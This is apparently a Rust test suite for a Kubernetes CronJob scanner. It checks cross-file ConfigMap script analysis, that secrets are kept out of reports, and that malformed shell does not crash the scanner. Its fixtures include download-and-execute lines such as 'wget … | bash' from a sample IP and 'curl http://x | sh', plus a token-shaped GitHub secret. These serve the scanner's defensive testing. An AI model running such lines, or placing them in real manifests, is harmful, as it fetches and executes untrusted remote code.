//! The command analysis across files and on hostile scripts: a ConfigMap script in another
//! file, secrets never reaching any output, malformed shell never panicking.

use cronguard::config::RuleSelection;
use cronguard::report::human::{Style, render_finding};
use cronguard::report::json;
use cronguard::scan::{self, Options, Outcome};
use cronguard::source::{Data, Source};
use std::sync::Arc;

fn scan_files(files: &[(&str, &str)], rules: &str) -> Outcome {
    let mut selection = RuleSelection::default();
    selection.apply_list("all", false).unwrap();
    selection.apply_list(rules, true).unwrap();
    let opts = Options {
        selection,
        ..Options::default()
    };
    let sources: Vec<Source> = files
        .iter()
        .map(|(p, t)| Source {
            path: Arc::from(*p),
            data: Data::Memory(Arc::from(t.as_bytes())),
        })
        .collect();
    scan::scan(&sources, &opts)
}

const CONFIGMAP: &str = "apiVersion: v1
kind: ConfigMap
metadata:
  name: tools
  namespace: ops
data:
  run.sh: |
    set -e
    wget -qO- http://198.51.100.7/x | bash
";

const CRONJOB: &str = "apiVersion: batch/v1
kind: CronJob
metadata:
  name: nightly
  namespace: ops
spec:
  schedule: \"0 1 * * *\"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          volumes:
          - name: t
            configMap:
              name: tools
              items: [{key: run.sh, path: bin/run.sh}]
          containers:
          - name: job
            image: alpine:3.20
            volumeMounts: [{name: t, mountPath: /opt/tools}]
            command: [\"/opt/tools/bin/run.sh\"]
";

#[test]
fn a_configmap_script_in_another_file_is_reported_inside_the_configmap() {
    let out = scan_files(
        &[("cm.yaml", CONFIGMAP), ("cronjob.yaml", CRONJOB)],
        "command-download-exec",
    );
    assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
    let f = &out.findings[0];
    assert_eq!(&*f.path, "cm.yaml");
    assert_eq!(f.line, 9);
    assert_eq!(&CONFIGMAP[f.span.range()], "wget");
    assert_eq!(f.related.len(), 1);
    assert_eq!(&*f.related[0].path, "cronjob.yaml");
    assert_eq!(
        &CRONJOB[f.related[0].span.range()],
        "\"/opt/tools/bin/run.sh\""
    );
    assert!(out.sources.contains_key("cm.yaml"));
}

#[test]
fn a_configmap_that_is_mounted_but_not_run_is_not_analysed() {
    let cron = CRONJOB.replace(
        "[\"/opt/tools/bin/run.sh\"]",
        "[\"cat\", \"/opt/tools/bin/run.sh\"]",
    );
    let out = scan_files(
        &[("cm.yaml", CONFIGMAP), ("cronjob.yaml", &cron)],
        "command",
    );
    assert!(out.findings.is_empty(), "{:?}", out.findings);
}

#[test]
fn secrets_never_reach_any_output() {
    let secret = "ghp_Zq8Xw3Lk9Vb2Nm5Pr7Ts1Uy4Ad6Fg0Hj8Kc2";
    let text = format!(
        "apiVersion: batch/v1
kind: Job
metadata: {{name: j}}
spec:
  template:
    spec:
      containers:
      - name: c
        image: alpine:3.20
        env:
        - {{name: GITHUB_TOKEN, value: {secret}}}
"
    );
    let out = scan_files(&[("job.yaml", &text)], "env-secret-literal");
    assert_eq!(out.findings.len(), 1);
    let f = &out.findings[0];
    let style = Style {
        color: false,
        width: 120,
        show_suppressed: true,
    };
    let human = render_finding(f, out.sources.get(&f.path).map(|s| &**s), style);
    let json = json::to_value(&out).to_string();
    for (what, s) in [
        ("human", human.as_str()),
        ("json", json.as_str()),
        ("message", f.message.as_str()),
        ("label", f.label.as_str()),
        ("value", f.value.as_str()),
    ] {
        assert!(!s.contains(&secret[4..]), "{what} leaks the secret: {s}");
    }
    assert!(human.contains("GITHUB_TOKEN"));
}

#[test]
fn malformed_and_hostile_scripts_never_panic() {
    let scripts = [
        "echo 'unterminated",
        "curl http://x | sh \"",
        "$(((((((",
        "cat <<EOF",
        "`",
        "\\",
        "${",
        "$'\\u{110000}",
        "a | | | b",
        "{ ( } )",
    ];
    let deep = "$(".repeat(5000);
    let many = "curl -s http://x | sh;".repeat(2000);
    for s in scripts
        .iter()
        .copied()
        .chain([deep.as_str(), many.as_str()])
    {
        let quoted = serde_json::to_string(s).unwrap();
        let text = format!(
            "apiVersion: batch/v1
kind: Job
metadata: {{name: j}}
spec:
  template:
    spec:
      containers:
      - name: c
        image: alpine:3.20
        command: [\"sh\", \"-c\", {quoted}]
"
        );
        let out = scan_files(&[("job.yaml", &text)], "command");
        assert!(out.skipped.is_empty(), "{s:?}: {:?}", out.skipped);
    }
    // A partial parse still sees what is before the broken quote.
    let text = "apiVersion: batch/v1
kind: Job
metadata: {name: j}
spec:
  template:
    spec:
      containers:
      - name: c
        image: alpine:3.20
        command: [\"sh\", \"-c\", \"curl -s http://x | sh; echo 'oops\"]
";
    let out = scan_files(&[("job.yaml", text)], "command-download-exec");
    assert_eq!(out.findings.len(), 1);
}
